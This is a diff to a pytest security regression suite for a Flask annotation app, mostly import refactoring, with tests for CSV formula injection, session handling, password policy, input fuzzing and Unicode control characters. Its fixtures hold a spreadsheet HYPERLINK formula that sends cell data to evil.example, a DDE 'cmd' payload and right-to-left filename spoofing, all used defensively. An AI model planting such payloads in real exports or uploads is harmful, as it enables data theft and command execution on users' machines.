@@ -7,22 +7,29 @@ from __future__ import annotations
 
 import pytest
 
-from psan.store.windows import WINDOW_TOLERANCE, cut_window
-from tests.conftest import login, make_account
-from tests.web.annotate_fixtures import add_document, default_project, join_project, meta_csrf, set_window_size, sql
+from psan.store.windows import WINDOW_TOLERANCE
+from tests.documents import add_document, label_span
+from tests.helpers import (
+    PASSWORD,
+    Auth,
+    account_id,
+    csrf_token,
+    default_project,
+    make_account,
+    meta_csrf,
+    new_project,
+    sql,
+)
+from tests.people import SMITH_TEXT_A
+from tests.services import TEST_SECRET
+from tests.web.helpers import add_label, add_rule, annotator_client
 
 # --- finding 1: the window-size limit ------------------------------------------------------------------------
 SIZE = 300
 
 
 def _annotator(app, email: str = "annotator@example.org", size: int = SIZE, role: str = "USER"):
-    make_account(app, email, role)
-    join_project(app, default_project(app), email)
-    set_window_size(app, email, size)
-    client = app.test_client()
-    assert login(client, email).status_code == 302
-    client.environ_base["HTTP_X_CSRFTOKEN"] = meta_csrf(client)
-    return client
+    return annotator_client(app, email, role, window_size=size)
 
 
 def _line_tokens(app, doc: int) -> dict[int, int]:
@@ -109,17 +116,6 @@ def test_finding_01_window_never_exceeds_size_one_sentence(clean_app):
         assert window["end_token"] - window["first_token"] <= 200
 
 
-@pytest.mark.parametrize("centred", [True, False])
-def test_finding_01_cut_window_prefers_line_breaks(centred):
-    line_starts = list(range(10, 1000, 10))  # lines of 10 tokens
-    first, end = cut_window((500, 502), 95, (0, 1000), line_starts, centred)
-    assert first <= 500 < 502 <= end and end - first <= 95
-    assert first in line_starts and end in line_starts
-    # without line breaks: plain token boundaries, exactly the size
-    first, end = cut_window((500, 502), 95, (0, 1000), [], centred)
-    assert first <= 500 and end >= 502 and end - first == 95
-
-
 # --- finding 2: CSV formula injection --------------------------------------------------------------------------
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 EVIL_CELLS = (EVIL, "+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx")
@@ -143,15 +139,13 @@ def _assert_no_formula(rows: list[list[str]], must_contain: str = EVIL) -> None:
 
 @pytest.fixture()
 def evil_project(clean_app):
-    from tests.web.helpers import add_label, add_rule, new_project
-    from tests.web.test_pseudonym_key import TEXT_A, _label_span
     app = clean_app
     pid = new_project(app, "Evil project")
-    doc = add_document(app, TEXT_A, [("John Smith", "PERSON")], project_id=pid, name="a.txt")
+    doc = add_document(app, SMITH_TEXT_A, [("John Smith", "PERSON")], project_id=pid, name="a.txt")
     sql(app, "UPDATE rule SET confidence = -1 WHERE project_id = %s AND type = 'NE_TYPE'", (pid,))
     label = add_label(app, pid, EVIL, "PERSON", replacement="@SUM(1+1)")
     add_rule(app, pid, "+cmd", label_id=label)
-    _label_span(app, doc, "John", label)
+    label_span(app, doc, "John", label)
     sql(app, "INSERT INTO decision_log (project_id, document_id, first_token, end_token, action, decision, "
              "label_name) VALUES (%s, %s, 0, 2, 'decide', 'PRIVATE', %s)", (pid, doc, EVIL))
     return {"pid": pid, "doc": doc}
@@ -225,7 +219,6 @@ def test_finding_10_forwarded_for_is_not_trusted_by_default(client, clean_app):
     from flask import Flask
 
     from psan.settings import load_config
-    from tests.conftest import TEST_SECRET, csrf_token
     production = Flask("psan")
     load_config(production, {"PSAN_CONFIG": "production", "SECRET_KEY": TEST_SECRET, "DATABASE_URL": "postgresql://x"},
                 environ={})
@@ -265,7 +258,8 @@ RATE_LIMIT_PROBE = """
 import sys, uuid
 import redis
 from psan import create_app
-from tests.conftest import app_config, csrf_token
+from tests.services import app_config
+from tests.helpers import csrf_token
 prefix = f"inst-{uuid.uuid4().hex[:8]}"
 config = app_config(sys.argv[1], sys.argv[2], REDIS_KEY_PREFIX=prefix)
 config.pop("RATELIMIT_KEY_PREFIX")
@@ -304,7 +298,6 @@ def _replay(app, cookies: dict[str, str]) -> int:
 
 
 def _remembered_login(app, email: str):
-    from tests.conftest import PASSWORD, csrf_token
     client = app.test_client()
     response = client.post("/auth/login", data={"email": email, "password": PASSWORD, "remember": "y",
                                                  "csrf_token": csrf_token(client)})
@@ -315,7 +308,6 @@ def _remembered_login(app, email: str):
 
 
 def test_finding_06_logout_ends_saved_session_and_remember_cookies(clean_app):
-    from tests.conftest import csrf_token
     make_account(clean_app, "a@example.org")
     client, cookies = _remembered_login(clean_app, "a@example.org")
     assert _replay(clean_app, {"remember_token": cookies["remember_token"]}) == 200
@@ -326,8 +318,6 @@ def test_finding_06_logout_ends_saved_session_and_remember_cookies(clean_app):
 
 
 def test_finding_06_deactivation_ends_sessions_for_good(clean_app, admin_client):
-    from tests.conftest import csrf_token
-    from tests.web.helpers import account_id
     make_account(clean_app, "b@example.org")
     _, cookies = _remembered_login(clean_app, "b@example.org")
     uid = account_id(clean_app, "b@example.org")
@@ -353,7 +343,6 @@ def test_finding_06_remember_cookie_lifetime_is_short_and_configurable(clean_app
 
 # --- finding 9: CSRF rotation at login, rate-limited password change, password policy -------------------------
 def test_finding_09_csrf_token_rotates_at_login(clean_app):
-    from tests.conftest import PASSWORD, csrf_token
     make_account(clean_app, "d@example.org")
     client = clean_app.test_client()
     before = csrf_token(client)
@@ -371,10 +360,9 @@ def test_finding_09_csrf_token_rotates_at_login(clean_app):
 
 
 def test_finding_09_password_change_is_rate_limited(clean_app):
-    from tests.conftest import csrf_token
     make_account(clean_app, "e@example.org")
     client = clean_app.test_client()
-    assert login(client, "e@example.org").status_code == 302
+    assert Auth(client).login("e@example.org").status_code == 302
     token = csrf_token(client, "/auth/password")
     statuses = [client.post("/auth/password", data={"current": f"guess number {n}", "password": "Xk3-plover-tangent",
                                                      "confirm": "Xk3-plover-tangent", "csrf_token": token}).status_code
@@ -386,21 +374,19 @@ def test_finding_09_password_change_is_rate_limited(clean_app):
                                       "iloveyou2024", "f@example.org", "F@Example.org", "abcabcabcabc",
                                       "correct horse battery staple"])
 def test_finding_09_weak_passwords_are_refused(clean_app, password):
-    from tests.conftest import csrf_token
     make_account(clean_app, "f@example.org")
     client = clean_app.test_client()
-    assert login(client, "f@example.org").status_code == 302
+    assert Auth(client).login("f@example.org").status_code == 302
     response = client.post("/auth/password", data={"current": "correct horse battery staple", "password": password,
                                                    "confirm": password,
                                                    "csrf_token": csrf_token(client, "/auth/password")})
     assert response.status_code == 200
     assert "invalid-feedback" in response.get_data(as_text=True) or "is-invalid" in response.get_data(as_text=True)
-    assert login(clean_app.test_client(), "f@example.org").status_code == 302  # the old password still works
+    assert Auth(clean_app.test_client()).login("f@example.org").status_code == 302  # the old password still works
 
 
 def test_finding_09_policy_applies_to_every_password_form(clean_app, admin_client):
     from psan.password_policy import common_passwords
-    from tests.conftest import csrf_token
     assert len(common_passwords()) > 5000 and "password1" in common_passwords()
     token = csrf_token(admin_client, "/users/new")
     base = {"name": "G", "role": "USER", "window_size": 300, "active": "y", "csrf_token": token}
@@ -456,7 +442,6 @@ def _assert_400_with_message(response, what) -> None:
 
 def test_finding_07_fuzz_every_form_and_json_endpoint(clean_app, admin_client):
     from psan.extensions import limiter
-    from tests.conftest import csrf_token
     token = csrf_token(admin_client, "/auth/password")
     checked = 0
     for endpoint, method, path in _routes(clean_app):
@@ -486,7 +471,6 @@ def test_finding_07_fuzz_every_form_and_json_endpoint(clean_app, admin_client):
 
 
 def test_finding_07_anonymous_forms_with_nul(client):
-    from tests.conftest import csrf_token
     for path in ("/auth/login", "/auth/forgot"):
         response = client.post(path, data={"email": "a\x00@example.org", "password": "x\x00",
                                            "csrf_token": csrf_token(client, path)})
@@ -494,7 +478,6 @@ def test_finding_07_anonymous_forms_with_nul(client):
 
 
 def test_finding_07_nested_pipeline_in_project_form(admin_client):
-    from tests.conftest import csrf_token
     token = csrf_token(admin_client, "/projects/new")
     deep = "[" * 9000 + "]" * 9000  # within the field's 20,000 characters
     response = admin_client.post("/projects/new", data={"name": "deep", "language": "en", "pipeline": deep,
@@ -509,7 +492,6 @@ def test_finding_07_nested_pipeline_in_project_form(admin_client):
 
 
 def test_finding_07_crlf_in_next_after_login(clean_app):
-    from tests.conftest import PASSWORD, csrf_token
     make_account(clean_app, "h@example.org")
     client = clean_app.test_client()
     token = csrf_token(client)
@@ -526,8 +508,6 @@ RLO, ZWSP = "\u202e", "\u200b"
 def test_finding_08_controls_are_stripped_from_names(admin_client, clean_app, celery_worker):
     import io
 
-    from tests.conftest import csrf_token
-    from tests.web.helpers import default_project as project_id
     token = csrf_token(admin_client, "/users/new")
     assert admin_client.post("/users/new", data={"email": "i@example.org", "name": f"Eve{RLO}gnp.exe{ZWSP}",
                                                  "role": "USER", "window_size": 300, "active": "y",
@@ -545,17 +525,16 @@ def test_finding_08_controls_are_stripped_from_names(admin_client, clean_app, ce
     assert only_controls.status_code == 200 and "The name is empty" in only_controls.get_data(as_text=True)
     token = csrf_token(admin_client, "/documents/upload")
     response = admin_client.post("/documents/upload", data={
-        "project": project_id(clean_app), "language": "", "csrf_token": token,
+        "project": default_project(clean_app), "language": "", "csrf_token": token,
         "files": (io.BytesIO(b"Hello world."), f"report{RLO}txt.exe{ZWSP}.txt")}, content_type="multipart/form-data")
     assert response.status_code in (200, 302)
     assert sql(clean_app, "SELECT name FROM document")[0]["name"] == "reporttxt.exe.txt"
 
 
 def test_finding_08_label_names_with_controls_are_refused(admin_client, clean_app):
-    from tests.web.helpers import default_project as project_id
     headers = {"X-CSRFToken": meta_csrf(admin_client)}
     for name in (f"evil{RLO}", f"zero{ZWSP}width", "bom\ufeff", "\u2066isolate"):
-        response = admin_client.post(f"/labels/api/{project_id(clean_app)}", json={"name": name}, headers=headers)
+        response = admin_client.post(f"/labels/api/{default_project(clean_app)}", json={"name": name}, headers=headers)
         assert response.status_code == 400 and "control characters" in response.get_json()["error"], name
     assert not sql(clean_app, "SELECT 1 FROM label")
 
@@ -563,7 +542,6 @@ def test_finding_08_label_names_with_controls_are_refused(admin_client, clean_ap
 def test_finding_08_user_text_is_isolated_in_pages(admin_client, clean_app):
     import re
 
-    from tests.web.helpers import add_label, add_rule, new_project
     legacy = f"old{RLO}name"  # stored before names were cleaned
     pid = new_project(clean_app, legacy)
     sql(clean_app, "UPDATE account SET name = %s WHERE email = 'admin@example.org'", (legacy,))
@@ -591,8 +569,6 @@ def test_finding_14_mostly_utf8_needs_confirmation_and_shows_a_preview(admin_cli
     import io
 
     from psan.documents.upload import UploadError, decode
-    from tests.conftest import csrf_token
-    from tests.web.helpers import default_project as project_id
     damaged = b"Hello \xed\xa0\x80 John"
     with clean_app.test_request_context(), pytest.raises(UploadError, match="almost UTF-8"):
         decode(damaged, "a.txt", 1000)
@@ -604,7 +580,7 @@ def test_finding_14_mostly_utf8_needs_confirmation_and_shows_a_preview(admin_cli
         cp1250 = decode("Příliš žluťoučký kůň úpěl ďábelské ódy, řekl pan Dvořák.".encode("cp1250"), "c.txt", 1000)
         assert cp1250.text.startswith("Příliš") and cp1250.note
     token = csrf_token(admin_client, "/documents/upload")
-    form = {"project": project_id(clean_app), "language": "", "csrf_token": token}
+    form = {"project": default_project(clean_app), "language": "", "csrf_token": token}
     refused = admin_client.post("/documents/upload", data={**form, "files": (io.BytesIO(damaged), "a.txt")},
                                 content_type="multipart/form-data")
     assert refused.status_code == 400
